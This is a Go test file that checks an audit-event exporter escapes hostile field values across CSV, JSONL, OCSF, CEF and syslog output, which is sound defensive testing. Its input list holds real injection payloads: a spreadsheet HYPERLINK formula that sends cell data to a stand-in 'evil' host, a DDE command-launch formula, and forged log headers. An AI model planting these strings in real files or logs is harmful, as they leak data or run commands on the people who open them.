package eventform

import (
	"bufio"
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"maps"
	"reflect"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"
)

// hostile are texts that mean something to a spreadsheet, a log, a terminal or a SIEM.
var hostile = []string{
	"", "plain", `=HYPERLINK("http://evil.example/?"&A1,"here")`, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "'=1", "|calc", "%0A=1", `=cmd|' /C calc'!A0`,
	"a,b", `a"b`, `""",=1`, "two\nlines", "two\r\nlines", "an\rold mac", "end\n", "{\"n\":9}\n{\"n\":10}", "<34>1 2026-11-29T00:00:00Z evil - - - -", "17 <34>1 - - - - - - x",
	"CEF:0|Evil|Evil|1|x|x|9|", "a|b", `a\|b`, `a\`, `\\`, "x=1 act=signin.finished outcome=success", `\=`, "cs1Label=x", "]", `"]`, "\x00\x01\x1b[31mred", "\x7f", "\u0085\u2028\u2029", "\xff\xfe", "\ufeff=1", "Ünïcödé 名前", strings.Repeat("long ", 2000),
}

func eventOf(text string, n int64) Event {
	return Event{
		N: n, ID: "event-" + strconv.FormatInt(n, 10), At: time.Date(2026, 11, 29, 19, 4, 5, 600_000, time.UTC), Tenant: "alder", Action: "signin.refused", Outcome: "failure", Reason: text,
		Actor: Party{"user", text, text}, Target: Party{"user", text, text}, Subject: text, SubjectName: text, Thread: text, Request: text, IP: text, Browser: text, Typed: text, Details: map[string]string{"text": text, text: "key"},
	}
}

func written(t testing.TB, f Form, all ...Event) string {
	t.Helper()
	var b bytes.Buffer
	w, err := NewWriter(f, &b)
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range all {
		if err := w.Write(e); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// readCSV reads a table back as a spreadsheet shows it, and fails where one would reckon.
func readCSV(t testing.TB, text string) [][]string {
	t.Helper()
	all, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil {
		t.Fatalf("the table cannot be read: %v", err)
	}
	for _, row := range all[1:] {
		for i, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r\n|%＝＋－＠", []rune(cell)[0]) {
				t.Errorf("a cell begins with %q", []rune(cell)[0])
			}
			row[i] = strings.TrimPrefix(cell, "'")
		}
	}
	return all
}

// readCEF is a reader of CEF that shares nothing with what writes it.
func readCEF(t testing.TB, line string) (head []string, extension map[string]string) {
	t.Helper()
	var part strings.Builder
	i := 0
	for ; i < len(line) && len(head) < 7; i++ {
		switch {
		case line[i] == '\\' && i+1 < len(line):
			i++
			part.WriteByte(line[i])
		case line[i] == '|':
			head = append(head, part.String())
			part.Reset()
		default:
			part.WriteByte(line[i])
		}
	}
	if len(head) != 7 {
		t.Fatalf("%d fields in the head of %q", len(head), line)
	}
	// A key is the word in front of an equals sign that nothing escapes.
	rest := line[i:]
	type mark struct{ key, value int }
	var marks []mark
	for j := 0; j < len(rest); j++ {
		if rest[j] == '\\' {
			j++
			continue
		}
		if rest[j] == '=' {
			marks = append(marks, mark{strings.LastIndexByte(rest[:j], ' ') + 1, j + 1})
		}
	}
	extension = map[string]string{}
	for j, m := range marks {
		end := len(rest)
		if j+1 < len(marks) {
			end = marks[j+1].key - 1
		}
		key := rest[m.key : m.value-1]
		if _, twice := extension[key]; twice {
			t.Errorf("the key %q comes twice", key)
		}
		extension[key] = strings.NewReplacer(`\\`, `\`, `\=`, `=`, `\n`, "\n").Replace(rest[m.value:end])
	}
	return head, extension
}

// readFrames takes messages apart by the count of their octets alone.
func readFrames(t testing.TB, stream string) (all []string) {
	t.Helper()
	in := bufio.NewReader(strings.NewReader(stream))
	for {
		count, err := in.ReadString(' ')
		if err == io.EOF && count == "" {
			return all
		}
		n, wrong := strconv.Atoi(strings.TrimSuffix(count, " "))
		if wrong != nil || err != nil {
			t.Fatalf("the frame begins with %q", count)
		}
		message := make([]byte, n)
		if _, err := io.ReadFull(in, message); err != nil {
			t.Fatal(err)
		}
		all = append(all, string(message))
	}
}

// same checks that three events with a text in every field of one come back as three.
func same(t testing.TB, text string) {
	t.Helper()
	// What no form can hold is replaced alike in all; JSON keeps the rest as it is.
	want, valid := plain(text), json5(text)
	all := []Event{eventOf("before", 1), eventOf(text, 2), eventOf("after", 3)}

	rows := readCSV(t, written(t, CSV, all...))
	if len(rows) != 4 || !slices.Equal(rows[0], columns) || rows[1][1] != "event-1" || rows[3][1] != "event-3" {
		t.Fatalf("%q: the table has %d rows", text, len(rows))
	}
	for i, column := range columns {
		if slices.Contains([]string{"reason", "actor_id", "actor_name", "target_id", "target_name", "subject", "subject_name", "thread", "request", "ip", "browser", "typed"}, column) && rows[2][i] != want {
			t.Errorf("%q: %s is read as %q, want %q", text, column, rows[2][i], want)
		}
	}

	for _, f := range []Form{JSONL, OCSF} {
		lines := strings.Split(strings.TrimSuffix(written(t, f, all...), "\n"), "\n")
		if len(lines) != 3 || strings.ContainsAny(strings.Join(lines, ""), "\r\u0085\u2028\u2029") {
			t.Fatalf("%q: %s has %d lines", text, f, len(lines))
		}
		for _, line := range lines {
			if !json.Valid([]byte(line)) {
				t.Fatalf("%q: %s: not JSON: %s", text, f, line)
			}
		}
		if f == JSONL {
			var e Event
			if err := json.Unmarshal([]byte(lines[1]), &e); err != nil {
				t.Fatal(err)
			}
			if e.N != 2 || e.Reason != valid || e.Actor.Name != valid || e.Typed != valid || e.ID != "event-2" {
				t.Errorf("%q: is read as %+v", text, e)
			}
		}
	}

	lines := strings.Split(strings.TrimSuffix(written(t, CEF, all...), "\n"), "\n")
	if len(lines) != 3 {
		t.Fatalf("%q: CEF has %d lines", text, len(lines))
	}
	head, extension := readCEF(t, lines[1])
	if !slices.Equal(head, []string{"CEF:0", "Latchkey", "Latchkey", "1", "signin.refused", "signin.refused", "4"}) {
		t.Errorf("%q: the head is %q", text, head)
	}
	oneKind := strings.NewReplacer("\u2028", "\n", "\u2029", "\n").Replace(want)
	if extension["externalId"] != "event-2" || extension["reason"] != oneKind || extension["suser"] != oneKind || extension["cs5"] != oneKind || extension["cn1"] != "2" || extension["outcome"] != "failure" {
		t.Errorf("%q: CEF is read as %q", text, extension)
	}

	for _, f := range []Form{CEF, JSONL, OCSF} {
		var stream bytes.Buffer
		for i, e := range all {
			message, err := Syslog(f, e, "id.example", int64(i+1))
			if err != nil {
				t.Fatal(err)
			}
			stream.Write(message)
		}
		messages := readFrames(t, stream.String())
		if len(messages) != 3 {
			t.Fatalf("%q: %d messages", text, len(messages))
		}
		for i, m := range messages {
			begin := fmt.Sprintf(`1 2026-11-29T19:04:05.000600Z id.example latchkey - signin.refused [meta sequenceId="%d"] `, i+1)
			if !strings.HasPrefix(m, "<109>"+begin) && !strings.HasPrefix(m, "<110>"+begin) {
				t.Errorf("%q: message %d is %.120q", text, i+1, m)
			}
			if strings.ContainsAny(m, "\n\r\x00") {
				t.Errorf("%q: message %d has more than one line", text, i+1)
			}
		}
	}
}

// json5 is a text as encoding/json reads back what it wrote of it.
func json5(text string) string {
	b, _ := json.Marshal(text)
	var s string
	_ = json.Unmarshal(b, &s)
	return s
}

func TestWhateverSomebodyTypedIsOneFieldOfOneEvent(t *testing.T) {
	for _, text := range hostile {
		same(t, text)
	}
}

func FuzzEveryForm(f *testing.F) {
	for _, text := range hostile {
		f.Add(text)
	}
	f.Fuzz(func(t *testing.T, text string) { same(t, text) })
}

// TestAnEventAsOCSF has what its class requires.
func TestAnEventAsOCSF(t *testing.T) {
	read := func(e Event) map[string]any {
		line, err := Line(OCSF, e)
		if err != nil {
			t.Fatal(err)
		}
		var o map[string]any
		if err := json.Unmarshal(line, &o); err != nil {
			t.Fatal(err)
		}
		return o
	}
	for action, want := range map[string][4]int{ // class, activity, status, severity
		"signin.finished":    {3002, 1, 1, 1},
		"signin.begun":       {3002, 99, 1, 1},
		"session.ended":      {3002, 2, 1, 1},
		"user.locked":        {3001, 9, 1, 1},
		"device.enrolled":    {3001, 10, 1, 1},
		"role.assigned":      {3005, 1, 1, 1},
		"group.member_added": {3006, 3, 1, 1},
		"settings.changed":   {3004, 3, 1, 1},
		"provider.removed":   {3004, 4, 1, 1},
		"access.refused":     {3003, 99, 1, 1},
		"access.alarm":       {2004, 1, 1, 4},
		"break_glass.used":   {3002, 1, 1, 4},
	} {
		e := eventOf("x", 7)
		e.Action, e.Outcome = action, "success"
		o := read(e)
		got := [4]int{number(o["class_uid"]), number(o["activity_id"]), number(o["status_id"]), number(o["severity_id"])}
		if got != want {
			t.Errorf("%s is %v, want %v", action, got, want)
		}
	}
	denied := eventOf("x", -1)
	denied.Action, denied.Outcome = "access.refused", "denied"
	o := read(denied)
	if number(o["status_id"]) != 2 || number(o["severity_id"]) != 3 {
		t.Errorf("a refusal is %v", o)
	}
	if m := o["metadata"].(map[string]any); m["version"] != "1.3.0" || m["uid"] != "event--1" || m["sequence"] != nil {
		t.Errorf("its metadata are %v", m)
	}
}

func number(of any) int { f, _ := of.(float64); return int(f) }

// TestMemoryIsConstant: after fifty thousand events no more is held than after a few.
func TestMemoryIsConstant(t *testing.T) {
	held := func() uint64 {
		runtime.GC()
		var m runtime.MemStats
		runtime.ReadMemStats(&m)
		return m.HeapAlloc
	}
	e := eventOf("x", 1)
	for _, f := range Forms {
		w, err := NewWriter(f, io.Discard)
		if err != nil {
			t.Fatal(err)
		}
		before := held()
		for range 50_000 {
			if err := w.Write(e); err != nil {
				t.Fatal(err)
			}
		}
		if after := held(); after > before+1<<20 {
			t.Errorf("%s holds %d bytes more", f, after-before)
		}
		if err := w.Flush(); err != nil {
			t.Fatal(err)
		}
		if media, ending := f.Media(); media == "" || ending == "" || !f.Known() {
			t.Errorf("%s has no media type", f)
		}
	}
	if _, err := NewWriter("xlsx", io.Discard); err == nil {
		t.Error("a form that is not there can be written")
	}
}

func TestClassesHaveTheirActivities(t *testing.T) {
	for action, p := range particular {
		if p.activity != other && (p.activity <= 0 || p.activity >= len(activities[p.class])) {
			t.Errorf("%s: %s has no activity %d", action, classNames[p.class], p.activity)
		}
	}
	if !reflect.DeepEqual(slices.Sorted(maps.Keys(activities)), slices.Sorted(maps.Keys(classNames))) {
		t.Error("a class has no name, or no activities")
	}
}
